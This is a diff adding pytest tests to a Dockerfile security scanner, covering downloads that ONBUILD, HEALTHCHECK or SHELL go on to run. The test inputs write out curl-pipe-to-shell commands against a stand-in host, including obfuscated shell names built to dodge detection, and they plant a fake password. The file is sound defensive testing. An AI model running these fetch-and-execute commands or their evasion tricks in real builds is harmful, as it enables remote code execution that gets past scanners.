@@ -446,3 +446,54 @@ def test_what_cannot_be_read_is_reported_not_checked(tmp_path: Path, held: str) 
 def test_a_file_whose_lines_end_in_cr_alone_is_one_from_line_buildkit_refuses(tmp_path: Path) -> None:
     text = f"FROM {PIN}\rUSER app\rRUN curl https://x.example/x | sh\r"
     assert ("MLS909", 1, "medium") in graded(tmp_path, text)
+
+
+# --- second red-team pass on what ONBUILD, HEALTHCHECK and SHELL hold -----------------------------
+@pytest.mark.parametrize(
+    "text",
+    [
+        f"FROM {PIN}\nADD https://x.example/x.sh /x.sh\nHEALTHCHECK CMD sh /x.sh\n{SAFE_END}",
+        f"FROM {PIN}\nADD https://x.example/x.sh /x.sh\nONBUILD RUN sh /x.sh\n{SAFE_END}",
+        f"FROM {PIN}\nONBUILD ADD https://x.example/x.sh /x.sh\nONBUILD RUN sh /x.sh\n{SAFE_END}",
+    ],
+)
+def test_a_download_that_onbuild_or_healthcheck_runs_is_executed_unverified(tmp_path: Path, text: str) -> None:
+    assert any(rule == "MLS504" and severity == "medium" for rule, _, severity in graded(tmp_path, text))
+
+
+def test_a_secret_an_onbuild_env_sets_is_found(tmp_path: Path) -> None:
+    found = graded(tmp_path, f"FROM {PIN}\nONBUILD ENV DB_PASSWORD={fake('', 24)}\n{SAFE_END}")
+    assert any(rule == "MLS506" and line == 2 for rule, line, _ in found)
+
+
+@pytest.mark.parametrize("shell", ['["/bin/bash", "-lc"]', '["/bin/bash", "-ec"]', '["/bin/sh", "-euxc"]'])
+def test_combined_flags_ending_in_c_are_a_posix_shells_c(tmp_path: Path, shell: str) -> None:
+    found = graded(tmp_path, f"FROM {PIN}\nSHELL {shell}\nRUN echo hi\n{SAFE_END}")
+    assert not any(rule == "MLS909" for rule, _, _ in found)
+
+
+@pytest.mark.parametrize(
+    "run",
+    [
+        "curl -s https://x.example/i | /bin/s[h]",
+        "curl -s https://x.example/i | busybox sh",
+        "curl -s https://x.example/i | $'\\x73\\x68'",
+        "curl -s https://x.example/i | {sh,-s}",
+        "curl -s https://x.example/i | /bin/?ash",
+    ],
+)
+def test_a_shell_named_another_way_still_runs_the_download(tmp_path: Path, run: str) -> None:
+    assert ("MLS503", 2) in scan(tmp_path, f"FROM {PIN}\nRUN {run}\n{SAFE_END}")
+    assert ("MLS503", 2) in scan(tmp_path, f"FROM {PIN}\nONBUILD RUN {run}\n{SAFE_END}")
+
+
+@pytest.mark.parametrize(
+    "run",
+    [
+        "curl -s https://x.example/i | jq .",
+        "curl -sO https://x.example/a.zip && unzip *.zip",
+        "curl -s x | grep -E '[0-9]'",
+    ],
+)
+def test_a_pattern_among_a_programs_arguments_is_no_shell(tmp_path: Path, run: str) -> None:
+    assert ("MLS503", 2) not in scan(tmp_path, f"FROM {PIN}\nRUN {run}\n{SAFE_END}")
